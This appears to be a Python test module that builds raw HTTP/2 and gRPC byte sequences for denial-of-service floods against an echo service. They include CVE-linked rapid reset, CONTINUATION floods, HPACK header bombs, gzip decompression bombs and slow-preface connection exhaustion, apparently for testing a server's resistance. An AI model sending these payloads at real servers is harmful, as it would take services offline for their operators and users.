"""What abusive clients send: each flood as the bytes of a connection (RFC 9113, RFC 7541)."""

import gzip
import struct
from collections.abc import Sequence
from dataclasses import dataclass

from echo_scenarios import PAYLOAD, SERVICE
from frames import (
    CONTINUATION,
    DATA,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    MAX_WINDOW_BYTES,
    PREFACE,
    Field,
    block,
    data,
    frame,
    head,
    indexed,
    literal,
    message,
    ping,
    priority,
    request_fields,
    reset,
    settings,
    window_update,
)

UNKNOWN = 0xFA
MAX_STREAMS = 100
MAX_MESSAGE_BYTES = 4 << 20
WINDOW_BYTES = 65_535
MIB = 1 << 20
NEWEST_FIELD = indexed(62)
GREETING = PREFACE + settings()


@dataclass(frozen=True, slots=True)
class Flood:
    """One abuse; the fields are the arguments of ``flood.c``."""

    opening: bytes
    repeated: bytes = b""
    step: int = 0
    most: int = -1
    after: str = "hold"
    connections: int = 1


def header_block(method: str, *more: Field) -> bytes:
    """The head of a call of the echo service."""
    return block(request_fields(f"{SERVICE}/{method}".encode(), *more))


def request(method: str, stream: int = 1, *more: Field) -> bytes:
    return head(stream, header_block(method, *more))


def call(method: str, body: bytes, stream: int = 1, *more: Field) -> bytes:
    """A whole call of one framed message, however large the window."""
    return request(method, stream, *more) + data(stream, body, end=True)


def streams(count: int = MAX_STREAMS) -> range:
    return range(1, 2 * count, 2)


def echo_message(payload: bytes) -> bytes:
    """``echo.v1.Message``, framed."""
    return message(b"\x0a" + varint(len(payload)) + payload)


def varint(value: int) -> bytes:
    """As protobuf writes it."""
    octets = bytearray()
    while value >= 128:
        octets.append(value % 128 + 128)
        value //= 128
    return bytes([*octets, value])


def expand_request(count: int, payload: bytes) -> bytes:
    """``echo.v1.ExpandRequest``, framed: so many replies of that payload."""
    return message(b"\x08" + varint(count) + b"\x12" + varint(len(payload)) + payload)


def window_of(size: int) -> bytes:
    return settings((INITIAL_WINDOW_SIZE, size))


def header_bomb(fields: int) -> bytes:
    """A head that is many times as large as its bytes: one field, and references to it."""
    value = literal(b"x", b"v" * 3_900, indexed=True)
    return head(1, header_block("Converse") + value + NEWEST_FIELD * fields)


def packed(body: bytes) -> bytes:
    """A message in gzip, framed."""
    return message(gzip.compress(body), 1)


def gzip_bomb(size: int) -> bytes:
    return packed(bytes(size))


ECHO = echo_message(PAYLOAD)
GZIP = (b"grpc-encoding", b"gzip")
LARGE_BOMB = gzip_bomb(MAX_MESSAGE_BYTES)
PREFIX_BYTES = 5
LARGE_ECHO = packed(echo_message(bytes(MAX_MESSAGE_BYTES - 16))[PREFIX_BYTES:])
PARTIAL = struct.pack(">BI", 0, MAX_MESSAGE_BYTES) + bytes(WINDOW_BYTES - 5)

FLOODS: dict[str, Flood] = {
    # CVE-2023-44487
    "rapid reset": Flood(GREETING, request("Converse") + reset(1), 2),
    "rapid reset of whole calls": Flood(GREETING, call("Echo", ECHO) + reset(1), 2),
    # CVE-2025-8671
    "resets provoked by a window of zero": Flood(
        GREETING, request("Converse") + window_update(1, 0), 2
    ),
    "resets provoked by too large a window": Flood(
        GREETING, request("Converse") + window_update(1, MAX_WINDOW_BYTES), 2
    ),
    # CVE-2024-27316
    "CONTINUATION": Flood(
        GREETING + frame(HEADERS, 0, 1, header_block("Echo")),
        frame(CONTINUATION, 0, 1),
    ),
    "CONTINUATION, full frames": Flood(
        GREETING + frame(HEADERS, 0, 1, header_block("Echo")),
        frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * 100),
    ),
    "header bomb": Flood(GREETING, header_bomb(10_000), 2),
    "header bomb just below the limit": Flood(GREETING, header_bomb(14), 2),
    # CVE-2019-9511 to 9518
    "PING": Flood(GREETING, ping()),
    "PING, answers unread": Flood(GREETING, ping(), after="deaf"),
    "SETTINGS": Flood(GREETING, settings()),
    "SETTINGS, answers unread": Flood(GREETING, settings(), after="deaf"),
    "PRIORITY": Flood(GREETING, priority(1, 0), 2),
    "WINDOW_UPDATE": Flood(GREETING, window_update(0, 1)),
    "empty DATA": Flood(GREETING + request("Converse"), frame(DATA, 0, 1)),
    "DATA of a byte": Flood(GREETING + request("Converse"), frame(DATA, 0, 1, b"\0")),
    "unknown frames": Flood(GREETING, frame(UNKNOWN, payload=bytes(8))),
    "replies drawn byte by byte": Flood(
        PREFACE + window_of(0) + call("Expand", expand_request(1 << 20, bytes(1_000))),
        window_update(1, 1),
    ),
    "zero window, large replies": Flood(
        PREFACE
        + window_of(0)
        + b"".join(
            call("Expand", expand_request(1 << 20, bytes(30_000)), each) for each in streams()
        ),
        connections=8,
    ),
    "large replies, unread": Flood(
        PREFACE
        + window_of(MAX_WINDOW_BYTES)
        + window_update(0, MAX_WINDOW_BYTES - WINDOW_BYTES)
        + b"".join(
            call("Expand", expand_request(1 << 20, bytes(30_000)), each) for each in streams()
        ),
        after="deaf",
        connections=8,
    ),
    # Messages
    "message length": Flood(
        GREETING, request("Echo") + frame(DATA, 0, 1, b"\0\xff\xff\xff\xff"), 2
    ),
    "messages that never end": Flood(
        GREETING + b"".join(request("Collect", each) + data(each, PARTIAL) for each in streams()),
        connections=8,
    ),
    "decompression": Flood(GREETING, call("Echo", gzip_bomb(64 * MIB), 1, GZIP), 2),
    "decompression just below the limit": Flood(GREETING, call("Echo", LARGE_BOMB, 1, GZIP), 2),
    # Whole calls that are answered.
    "decompression of good messages": Flood(GREETING, call("Echo", LARGE_ECHO, 1, GZIP), 2),
    # All but the last octet of each, and then these in one frame after another.
    "decompression of all calls at once": Flood(
        GREETING
        + b"".join(request("Echo", each, GZIP) + data(each, LARGE_BOMB[:-1]) for each in streams())
        + b"".join(data(each, LARGE_BOMB[-1:], end=True) for each in streams())
    ),
    # Connections
    "connections opened and left": Flood(GREETING, after="leave", connections=16),
    "connections that fail with calls open": Flood(
        GREETING + b"".join(request("Converse", each) for each in streams()),
        frame(DATA, 0, 0, b"x"),
        most=1,
    ),
    "connections with one call": Flood(
        GREETING + call("Echo", ECHO), after="leave", connections=16
    ),
    "slow prefaces": Flood(PREFACE[:10], connections=4_000),
    "no HTTP/2": Flood(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", connections=16),
    # Calls that are like any other
    "unary calls": Flood(GREETING, call("Echo", ECHO), 2),
    "calls of unknown methods": Flood(GREETING, call("Unknown", ECHO), 2),
}


def refused_calls(path: str, metadata: Sequence[tuple[str, str]], body: bytes) -> Flood:
    """Unary calls as fast as they go, which a guard refuses for their metadata."""
    more = [(name.encode(), value.encode()) for name, value in metadata]
    fields = block(request_fields(path.encode(), *more))
    return Flood(GREETING, head(1, fields) + data(1, message(body), end=True), 2)
